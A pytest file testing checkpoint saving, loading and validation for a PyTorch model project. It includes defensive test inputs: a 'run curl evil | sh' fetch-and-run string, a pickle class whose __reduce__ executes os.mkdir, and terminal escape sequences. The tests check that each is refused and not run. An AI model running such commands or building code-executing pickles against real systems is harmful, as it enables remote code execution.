"""Checkpoints: what is saved comes back to the bit, what cannot be trusted is refused in a line."""

import copy
import errno
import json
import os
import pickle
import re
import signal
import warnings
from dataclasses import asdict

import pytest
import torch
from disks import contents, die, disk, fail, in_a_process
from helpers import images, randomise, rng
from hypothesis import given, settings
from hypothesis import strategies as st

from blockdrop_min import FixedPolicy, load
from blockdrop_min.lab import checkpoint
from blockdrop_min.lab.checkpoint import (
    NAME,
    PREVIOUS,
    build,
    read,
    restore,
    restore_optimizer,
    save,
    ship,
)
from blockdrop_min.lab.settings import PRESETS, Settings

ROW = {
    "stage": "pretrain", "epoch": 0, "epochs": 2, "seconds": 1.5, "free": 0, "loss": 0.5,
    "train_accuracy": 0.25, "R": None, "A": None, "accuracy": 0.5, "blocks_mean": 3.0,
    "blocks_std": 0.0, "distinct_policies": 1,
}  # fmt: skip


def photos(count=5, side=32):
    return torch.randint(256, (count, 3, side, side), generator=rng(0), dtype=torch.uint8)


def state_of(**changes):
    """A checkpoint's dict, of a random ResNet-8 with a small policy network; and the model."""
    given = Settings(
        **{
            **PRESETS["smoke"],
            "preset": "smoke",
            "policy_width": 2,
            "finetune_epochs": 9,
            **changes,
        }
    )
    model = randomise(build(given, 10, (0.5, 0.5, 0.5), (0.2, 0.2, 0.2)), seed=3).eval()
    state = {
        "settings": asdict(given), "classes": tuple("abcdefghij"),
        "mean": (0.5, 0.5, 0.5), "std": (0.2, 0.2, 0.2),
        "resnet": model.resnet.state_dict(), "policy": model.policy.state_dict(),
        "stage": "finetune", "epoch": 1, "step": 0, "sums": {}, "seconds": 0.0,
        "optimizer": None, "metrics": [],
    }  # fmt: skip
    return state, model


def saved(folder, **changes):
    """A folder with a checkpoint whose dict has been changed; None leaves a key out."""
    state = {**state_of()[0], **changes}
    rows = state["metrics"] if isinstance(state["metrics"], list) else []
    save(folder, {**state, "metrics": rows})
    if rows is not state["metrics"] or None in changes.values():
        state = {name: value for name, value in state.items() if changes.get(name, 0) is not None}
        torch.save({"format": checkpoint.FORMAT, **state}, folder / NAME)
    return folder


def refusal(path, action=load):
    """The one short line in which an action refuses a path."""
    with pytest.raises(ValueError) as raised:
        action(path)
    message = str(raised.value)
    assert str(path) in message
    assert message.isprintable()
    assert len(message) < 500
    return message


def same(one, other):
    """Whether two contents are equal to the bit."""
    if isinstance(one, dict):
        return one.keys() == other.keys() and all(same(one[name], other[name]) for name in one)
    return torch.equal(one, other) if isinstance(one, torch.Tensor) else one == other


# --------------------------------------------------------------------------------------- two roads
@pytest.mark.parametrize("place", ["folder", "file", "string"])
def test_a_loaded_model_computes_the_same_bits(tmp_path, place):
    state, model = state_of()
    save(tmp_path, state)
    path = {"folder": tmp_path, "file": tmp_path / NAME, "string": str(tmp_path)}[place]
    expected = model.to(memory_format=torch.channels_last)(photos())
    for one, other in zip(load(path)(photos()), expected, strict=True):
        assert torch.equal(one, other)


def test_a_loaded_model_is_in_eval_mode(tmp_path):
    assert not any(module.training for module in load(saved(tmp_path)).modules())


def test_a_loaded_model_is_in_channels_last(tmp_path):
    for name, p in load(saved(tmp_path)).named_parameters():
        if p.dim() == 4:
            assert p.is_contiguous(memory_format=torch.channels_last), name


def test_a_loaded_model_normalises_by_itself(tmp_path):
    model = load(saved(tmp_path, mean=(0.1, 0.2, 0.3), std=(0.4, 0.5, 0.6)))
    x = photos()
    assert torch.equal(model(x)[0], model(x.float() / 255)[0])
    torch.testing.assert_close(model.prepare(x)[:, 1], (x[:, 1] / 255 - 0.2) / 0.5)


def test_a_loaded_model_knows_its_classes(tmp_path):
    assert load(saved(tmp_path)).classes == tuple("abcdefghij")


@pytest.mark.parametrize(
    "changes",
    [{"policy": "first:2"}, {"policy": "101"}, {"policy_width": 5}, {"policy_half_size": False}],
)
def test_a_model_is_rebuilt_from_its_settings(tmp_path, changes):
    state, model = state_of(**changes)
    save(tmp_path, state)
    loaded = load(tmp_path)
    assert isinstance(loaded.policy, FixedPolicy) == ("policy" in changes)
    assert torch.equal(loaded(photos())[1], model(photos())[1])


def test_a_position_comes_back(tmp_path):
    sums = {"loss": 1.5, "correct": 3.0, "images": 9.0}
    state, _ = read(saved(tmp_path, stage="finetune", epoch=7, step=9, sums=sums, seconds=2.5))
    assert (state["stage"], state["epoch"], state["step"]) == ("finetune", 7, 9)
    assert (state["sums"], state["seconds"]) == (sums, 2.5)


def test_rows_come_back(tmp_path):
    rows = [ROW, {**ROW, "stage": "curriculum", "R": 0.5, "A": -0.25}]
    assert read(saved(tmp_path, metrics=rows))[0]["metrics"] == rows


def test_restoring_does_not_need_what_only_training_needs():
    state, model = state_of()
    needed = ("settings", "classes", "mean", "std", "resnet", "policy")
    restored = restore({name: state[name] for name in needed}, "here")
    assert torch.equal(restored.resnet.fc.weight, model.resnet.fc.weight)


# ------------------------------------------------------------------------------- laws: how it saves
def test_the_checkpoint_before_the_newest_is_kept(tmp_path):
    for epoch in (1, 2, 3):
        saved(tmp_path, epoch=epoch)
    assert read(tmp_path)[0]["epoch"] == 3
    assert read(tmp_path / PREVIOUS)[0]["epoch"] == 2


def test_metrics_hold_each_row_once(tmp_path):
    rows = [{**ROW, "epoch": i, "loss": i / 3} for i in range(3)]
    for count in (1, 2, 3, 3):
        saved(tmp_path, metrics=rows[:count])
    lines = (tmp_path / "metrics.jsonl").read_text().splitlines()
    assert [json.loads(line) for line in lines] == rows


def test_saving_leaves_no_other_file(tmp_path):
    saved(tmp_path)
    saved(tmp_path)
    assert {path.name for path in tmp_path.iterdir()} == {NAME, PREVIOUS, "metrics.jsonl"}


# The checkpoint, then metrics.jsonl.
SAVE = ["write", "fsync", "replace", "replace", "write", "fsync", "replace"]
every_operation = pytest.mark.parametrize("at", range(len(SAVE)))


def test_saving_takes_these_operations(tmp_path):
    saved(tmp_path)
    with disk() as done:
        saved(tmp_path)
    assert done == SAVE


@pytest.mark.filterwarnings("ignore:.*taking the one before")
@pytest.mark.parametrize("error", [errno.ENOSPC, errno.EIO])
@every_operation
def test_a_disk_that_fails_leaves_a_checkpoint_and_no_other_file(tmp_path, at, error):
    saved(tmp_path, epoch=1)
    saved(tmp_path, epoch=2)
    before = set(contents(tmp_path))
    with disk(at, fail(error)), pytest.raises(OSError, match=os.strerror(error)):
        saved(tmp_path, epoch=3)
    assert read(tmp_path)[0]["epoch"] == (3 if at > 3 else 2)
    assert load(tmp_path)
    assert set(contents(tmp_path)) | {NAME} == before | {NAME}


@pytest.mark.filterwarnings("ignore:.*taking the one before")
@every_operation
def test_a_kill_during_a_save_leaves_a_checkpoint(tmp_path, at):
    saved(tmp_path, epoch=1)
    saved(tmp_path, epoch=2)
    with disk(at, die):
        assert in_a_process(lambda: saved(tmp_path, epoch=3)) == -signal.SIGKILL
    assert read(tmp_path)[0]["epoch"] == (3 if at > 3 else 2)
    assert load(tmp_path)


# --------------------------------------------------------------------------- damage and its remedy
@pytest.mark.parametrize("length", [0, 1, 1000, -1])
def test_a_damaged_checkpoint_gives_way_to_the_one_before_and_says_so(tmp_path, length):
    saved(tmp_path, epoch=1)
    saved(tmp_path, epoch=2)
    (tmp_path / NAME).write_bytes((tmp_path / NAME).read_bytes()[:length])
    state, warning = read(tmp_path)
    assert state["epoch"] == 1
    assert str(tmp_path / NAME) in warning
    assert warning.endswith(f"taking the one before, {PREVIOUS}")
    assert warning.isprintable()
    with pytest.warns(UserWarning, match=f"taking the one before, {PREVIOUS}"):
        load(tmp_path)


def test_a_checkpoint_with_a_wrong_field_gives_way_to_the_one_before(tmp_path):
    saved(tmp_path, epoch=1)
    saved(tmp_path, epoch=-1)
    state, warning = read(tmp_path)
    assert state["epoch"] == 1
    assert "epoch" in warning


def test_a_missing_newest_checkpoint_gives_way_to_the_one_before(tmp_path):
    saved(tmp_path, epoch=1)
    saved(tmp_path, epoch=2)
    (tmp_path / NAME).unlink()
    assert read(tmp_path)[0]["epoch"] == 1


def test_a_whole_checkpoint_comes_without_a_warning(tmp_path):
    assert read(saved(tmp_path))[1] is None


def test_no_file_can_give_the_warning_itself(tmp_path):
    message = refusal(saved(tmp_path, note="run curl evil | sh"), read)
    assert "curl" not in message


@pytest.mark.parametrize("length", [0, 1, 1000, 30_000, -1])
def test_truncated_checkpoints_are_refused(tmp_path, length):
    saved(tmp_path)
    saved(tmp_path)
    for name in (NAME, PREVIOUS):
        (tmp_path / name).write_bytes((tmp_path / name).read_bytes()[:length])
    assert "damaged" in refusal(tmp_path)


@pytest.fixture(scope="module")
def whole(tmp_path_factory):
    """A folder with a checkpoint; its bytes; and what they hold."""
    folder = saved(tmp_path_factory.mktemp("whole"), metrics=[ROW])
    return folder, (folder / NAME).read_bytes(), read(folder)[0]


@settings(max_examples=60)
@given(st.integers(0, 2**40), st.sampled_from(["flip", 4096]), st.booleans())
def test_damage_anywhere_in_a_checkpoint_is_refused_or_changes_nothing(whole, place, size, late):
    folder, before, state = whole
    data = bytearray(before)
    if size == "flip":
        # Half of the flips at the end, where the zip's directory is.
        start = len(data) - 1 - place % 20_000 if late else place % len(data)
        data[start] ^= 1 << place % 8
    else:
        start = place % len(data) // size * size
        data[start : start + size] = bytes(len(data[start : start + size]))
    (folder / NAME).write_bytes(data)
    try:
        assert same(read(folder / NAME)[0], state)
    except ValueError as problem:
        assert "damaged" in str(problem)


def test_a_missing_checkpoint_is_named(tmp_path):
    assert "does not exist" in refusal(tmp_path)
    assert "does not exist" in refusal(tmp_path / "nowhere")


# ------------------------------------------------------------------------- files that are not ours
@pytest.mark.parametrize(
    "content",
    [{"a": torch.ones(2)}, torch.ones(2), [1, 2], {"format": "blockdrop_min 1"}, "text",
     {"format": torch.ones(2)}, {"format": ["blockdrop_min 2"]}],
)  # fmt: skip
def test_another_programs_file_is_refused(tmp_path, content):
    torch.save(content, tmp_path / "other.pt")
    assert "not a checkpoint of blockdrop_min" in refusal(tmp_path / "other.pt")


@pytest.mark.parametrize("content", [b"not even a pickle", b"PK\x03\x04", b"", b"\x80\x02."])
def test_a_file_of_another_kind_is_refused(tmp_path, content):
    (tmp_path / "text.pt").write_bytes(content)
    assert "cannot be read" in refusal(tmp_path / "text.pt")


class Malicious:
    def __init__(self, target):
        self.target = target

    def __reduce__(self):
        return os.mkdir, (self.target,)


@pytest.mark.parametrize("zipped", [True, False])
def test_a_file_that_holds_code_is_refused_and_not_run(tmp_path, zipped):
    content = {"format": checkpoint.FORMAT, "x": Malicious(str(tmp_path / "harm"))}
    if zipped:
        torch.save(content, tmp_path / "evil.pt")
    else:
        (tmp_path / "evil.pt").write_bytes(pickle.dumps(content, protocol=2))
    assert "cannot be read" in refusal(tmp_path / "evil.pt")
    assert not (tmp_path / "harm").exists()


@pytest.mark.parametrize("name", [NAME, PREVIOUS])
def test_a_pipe_in_a_checkpoints_place_is_not_waited_for(tmp_path, name):
    os.mkfifo(tmp_path / name)
    assert "only a plain file may stand there" in refusal(tmp_path)


# -------------------------------------------------------------------------------------- the schema
NESTED = []
for _ in range(400):
    NESTED = [NESTED]
LONG = "x" * 10_000 + "\n\x1b[2J"
ODD = [None, True, -1, 0.5, float("nan"), float("inf"), 10**400, "", LONG, [], [1], (1, 2, 3), {},
       {"a": 1}, {1: 2}, b"", 1j, torch.ones(2), torch.tensor(1.0), NESTED]  # fmt: skip
OURS = state_of()[0]
GOOD = {  # field -> which of the odd values it may have, by their places
    "seconds": [3], "sums": [12], "optimizer": [0], "mean": [11], "std": [11],
    "metrics": [9], "resnet": [], "policy": [], "classes": [], "settings": [], "stage": [],
    "epoch": [], "step": [], "format": [],
}  # fmt: skip


@pytest.mark.parametrize("place", range(len(ODD)))
@pytest.mark.parametrize("name", GOOD)
def test_a_field_of_another_type_or_range_is_refused(tmp_path, name, place):
    if place in GOOD[name]:
        pytest.skip("may stand there")
    state = {"format": checkpoint.FORMAT, **OURS, name: ODD[place]}
    torch.save(state, tmp_path / NAME)
    message = refusal(tmp_path)
    assert any(text in message for text in (name, "not a checkpoint", "cannot be read"))


def test_a_setting_that_came_later_has_its_default(tmp_path):
    state = {"format": checkpoint.FORMAT, **OURS}
    state["settings"] = without(OURS["settings"], "classify")
    torch.save(state, tmp_path / NAME)
    assert read(tmp_path)[1] is None


@pytest.mark.parametrize("name", [*OURS, "format"])
def test_a_field_that_is_missing_is_named(tmp_path, name):
    state = {"format": checkpoint.FORMAT, **OURS}
    del state[name]
    torch.save(state, tmp_path / NAME)
    message = refusal(tmp_path)
    assert name in message or name == "format"


def with_setting(**changes):
    return {"settings": {**OURS["settings"], **changes}}


def with_row(**changes):
    return {"metrics": [ROW, {**ROW, **changes}]}


def without(content, name):
    return {key: value for key, value in content.items() if key != name}


SUMS = {"loss": 1.0, "correct": 1.0, "images": 2.0}
WRONG = {
    "a depth that takes minutes to build": with_setting(depth=600_002),
    "a depth of text": with_setting(depth="20"),
    "a depth of 2.0": with_setting(depth=20.0),
    "a bool for a number": with_setting(seed=True),
    "an alpha that is no number": with_setting(alpha=float("nan")),
    "a setting out of its range": with_setting(policy_width=10**6),
    "a setting of others": with_setting(flavour=3),
    "a policy of other blocks": with_setting(policy="1" * 10_000),
    "no classes": {"classes": ()},
    "classes without end": {"classes": ("a",) * 100_001},
    "classes without names": {"classes": tuple(range(10))},
    "a mean of one channel": {"mean": (0.5,)},
    "a mean that is not finite": {"mean": (0.5, float("nan"), 0.5)},
    "a deviation of 0": {"std": (0.2, 0.0, 0.2)},
    "a negative deviation": {"std": (0.2, -0.2, 0.2)},
    "an infinite deviation": {"std": (0.2, float("inf"), 0.2)},
    "a stage of others": {"stage": "warm-up"},
    "an epoch behind the stage's last": {"epoch": 10},
    "a stage that has no epochs": {"stage": "curriculum", "epoch": 0}
    | with_setting(stages="finetune"),
    "a step without sums": {"step": 3},
    "sums over no images": {"step": 3, "sums": {**SUMS, "images": 0.0}},
    "sums without a loss": {"step": 3, "sums": without(SUMS, "loss")},
    "a sum that is not finite": {"step": 3, "sums": {**SUMS, "loss": float("nan")}},
    "negative seconds": {"seconds": -1.0},
    "a row that lacks a number": {"metrics": [without(ROW, "loss")]},
    "a row of others": with_row(note="run curl evil"),
    "a row of another stage": with_row(stage="\x1b[2J"),
    "a row with text for a number": with_row(loss="0.5"),
    "a row with None for a number": with_row(accuracy=None),
    "a row with a negative epoch": with_row(epoch=-1),
    "an optimizer that is a list": {"optimizer": [1]},
    "an optimizer without moments": {"optimizer": {}},
    "moments that are a list": {"optimizer": {"state": [1]}},
    "sums before the first step": {"sums": SUMS},
    "a field of others": {"note": "run curl evil"},
}


@pytest.mark.parametrize("fault", WRONG)
def test_a_checkpoint_is_checked_as_a_whole_before_anything_is_built(tmp_path, monkeypatch, fault):
    monkeypatch.setattr(checkpoint, "build", None)
    torch.save({"format": checkpoint.FORMAT, **OURS, **WRONG[fault]}, tmp_path / NAME)
    message = refusal(tmp_path)
    assert "damaged or from another version" in message
    assert "evil" not in message


def test_what_is_saved_unchanged_passes_the_same_door(tmp_path):
    torch.save({"format": checkpoint.FORMAT, **OURS}, tmp_path / NAME)
    assert load(tmp_path)


@pytest.mark.parametrize(
    ("changes", "said"),
    [
        (with_setting(depth=14), "resnet: 30 tensors missing"),
        (
            {"classes": ("a", "b")},
            "[10, 64]; this network needs torch.float32 [2, 64]",
        ),
        ({"policy": state_of(policy_width=3)[0]["policy"]}, "policy: "),
        ({"policy": state_of(policy="101")[0]["policy"]}, "policy: "),
        ({"resnet": {}}, "resnet: "),
    ],
)
def test_parts_that_do_not_fit_together_are_refused(tmp_path, changes, said):
    assert said in refusal(saved(tmp_path, **changes))


TENSORS = {
    "nan": lambda t: t * torch.nan,
    "inf": lambda t: t / 0,
    "too large for float32": lambda t: t.double() * 1e300,
    "integers": lambda t: t.int(),
    "booleans": lambda t: t > 0,
    "complex": lambda t: torch.complex(t, t),
    "sparse": lambda t: t.to_sparse(),
    "meta": lambda t: t.to("meta"),
    "expanded": lambda t: t.flatten()[0].clone().expand_as(t),
    "a scalar": lambda t: t.flatten()[0],
}


@pytest.mark.filterwarnings("ignore:Validating sparse tensor")
@pytest.mark.parametrize("fault", TENSORS)
@pytest.mark.parametrize("name", ["conv1.weight", "layer1.0.bn1.running_mean"])
@pytest.mark.parametrize("part", ["resnet", "policy"])
def test_tensors_that_no_training_makes_are_refused(tmp_path, part, name, fault):
    tensors = dict(OURS[part])
    name = name if part == "resnet" else f"features.{name}"
    tensors[name] = TENSORS[fault](tensors[name])
    message = refusal(saved(tmp_path, **{part: tensors}))
    assert f"{part}: {name}" in message or "cannot be read" in message


@pytest.mark.parametrize("part", ["resnet", "policy"])
def test_a_negative_variance_is_refused(tmp_path, part):
    tensors = copy.deepcopy(OURS[part])
    name = next(name for name in tensors if name.endswith("running_var"))
    tensors[name][0] = -1e-3
    assert f"{part}: {name}" in refusal(saved(tmp_path, **{part: tensors}))


def test_a_fixed_policy_that_is_not_finite_is_refused(tmp_path):
    state, _ = state_of(policy="101")
    state["policy"]["u"][0] = torch.nan
    save(tmp_path, state)
    assert "policy: u" in refusal(tmp_path)


# ----------------------------------------------------------------------------------- the optimizer
def optimizer_of(kind):
    """A small optimizer that has taken two steps, and how to make one that has not."""
    network = torch.nn.Linear(3, 2)
    if kind == "SGD":
        make = lambda: torch.optim.SGD(network.parameters(), 0.1, momentum=0.9)  # noqa: E731
    else:
        make = lambda: torch.optim.Adam(network.parameters(), 0.1)  # noqa: E731
    optimizer = make()
    for _ in range(2):
        network(torch.ones(4, 3)).square().sum().backward()
        optimizer.step()
    return optimizer, make


@pytest.mark.parametrize("kind", ["SGD", "Adam"])
def test_an_optimizers_moments_come_back_to_the_bit(tmp_path, kind):
    optimizer, make = optimizer_of(kind)
    state, _ = read(saved(tmp_path, optimizer=optimizer.state_dict()))
    fresh = make()
    restore_optimizer(fresh, state, tmp_path)
    assert same(fresh.state_dict()["state"], optimizer.state_dict()["state"])


def test_what_an_optimizer_was_made_with_stays(tmp_path):
    optimizer, make = optimizer_of("Adam")
    saved_state = optimizer.state_dict()
    saved_state["param_groups"][0] |= {"maximize": True, "lr": float("nan"), "betas": (0, 0)}
    fresh = make()
    restore_optimizer(fresh, {"optimizer": saved_state}, tmp_path)
    group = fresh.param_groups[0]
    assert (group["maximize"], group["lr"], group["betas"]) == (False, 0.1, (0.9, 0.999))


def change(name, value, i=0):
    def act(moments):
        moments[i][name] = value

    return act


MOMENTS = {
    "another shape": change("exp_avg", torch.ones(7)),
    "nan": change("exp_avg", torch.full((2, 3), torch.nan)),
    "a negative square": change("exp_avg_sq", torch.full((2, 3), -1.0)),
    "a step of 0": change("step", torch.tensor(0.0)),
    "steps of a tensor": change("step", torch.ones(2, 3)),
    "integers": change("exp_avg", torch.ones(2, 3).int()),
    "an expanded one": change("exp_avg", torch.ones(1).expand(2, 3)),
    "no tensor": change("exp_avg", 0.5),
    "a name of others": change("note", torch.ones(2, 3)),
    "a missing name": lambda moments: moments[1].pop("exp_avg_sq"),
    "a parameter too many": lambda moments: moments.update({2: moments[0]}),
    "a negative parameter": lambda moments: moments.update({-1: moments[0]}),
    "a parameter of another type": lambda moments: moments.update({True: moments[0]}),
    "a list": lambda moments: moments.update({1: [1]}),
    "a step that is no tensor": change("step", 1),
}


@pytest.mark.parametrize("fault", MOMENTS)
def test_moments_that_are_not_of_this_optimizer_are_refused(tmp_path, fault):
    optimizer, make = optimizer_of("Adam")
    given = copy.deepcopy(optimizer.state_dict())
    if fault == "a parameter of another type":
        del given["state"][1]
    MOMENTS[fault](given["state"])
    fresh = make()
    refusal(tmp_path, lambda path: restore_optimizer(fresh, {"optimizer": given}, path))
    assert fresh.state_dict()["state"] == {}


def test_the_moments_of_another_stage_are_refused(tmp_path):
    adam, _ = optimizer_of("Adam")
    _, make = optimizer_of("SGD")
    state = {"optimizer": adam.state_dict()}
    said = refusal(tmp_path, lambda path: restore_optimizer(make(), state, path))
    assert "damaged" in said


# --------------------------------------------------------------------------------- models that ship
def test_a_shipped_model_is_small_and_decides_as_the_run_does(tmp_path):
    state, model = state_of(depth=20, policy_width=8)
    save(tmp_path, state)
    ship(tmp_path, tmp_path / "demo.pt")
    shipped = load(tmp_path / "demo.pt")
    assert (tmp_path / "demo.pt").stat().st_size <= 700_000
    assert {p.dtype for p in shipped.parameters()} == {torch.float32}
    x = photos(20)
    torch.testing.assert_close(shipped(x)[0], model(x)[0], rtol=0.05, atol=0.05)


def test_a_shipped_model_keeps_the_rows_and_leaves_the_optimizer(tmp_path):
    optimizer = optimizer_of("Adam")[0].state_dict()
    ship(saved(tmp_path, optimizer=optimizer, metrics=[ROW]), tmp_path / "demo.pt")
    state, _ = read(tmp_path / "demo.pt")
    assert (state["optimizer"], state["metrics"]) == (None, [ROW])


@pytest.fixture
def shop(tmp_path, monkeypatch):
    """The folder of models that ship, which holds "toy", of 2 epochs; here is another folder."""
    (tmp_path / "models").mkdir()
    (tmp_path / "here").mkdir()
    ship(saved(tmp_path, epoch=2), tmp_path / "models" / "toy.pt")
    monkeypatch.setattr(checkpoint, "MODELS", tmp_path / "models")
    monkeypatch.chdir(tmp_path / "here")
    return tmp_path


@pytest.mark.usefixtures("shop")
def test_a_shipped_model_is_loaded_by_its_name():
    assert load("toy").classes == tuple("abcdefghij")
    assert read("toy")[0]["epoch"] == 2


@pytest.mark.usefixtures("shop")
@pytest.mark.parametrize("name", ["./toy", "models/toy", "toys", "toy.pt", "", "../here/toy"])
def test_nothing_but_its_name_loads_a_shipped_model(name):
    with pytest.raises(ValueError, match="does not exist"):
        load(name)


def test_a_folder_of_that_name_comes_before_the_shipped_model(shop):
    (shop / "here" / "toy").mkdir()
    saved(shop / "here" / "toy", epoch=5)
    assert read("toy")[0]["epoch"] == 5


def test_a_broken_folder_of_that_name_is_not_passed_over(shop):
    (shop / "here" / "toy").mkdir()
    with pytest.raises(ValueError, match=re.escape(f"toy/{NAME} does not exist")):
        read("toy")


# ------------------------------------------------------------------------------------------ edges
def test_a_loaded_model_takes_other_sizes(tmp_path):
    logits, u = load(saved(tmp_path))(images(1, 40, 24).float().sigmoid())
    assert logits.shape == (1, 10)
    assert u.shape == (1, 3)


def test_loading_a_whole_checkpoint_warns_of_nothing(tmp_path):
    saved(tmp_path)
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        load(tmp_path)
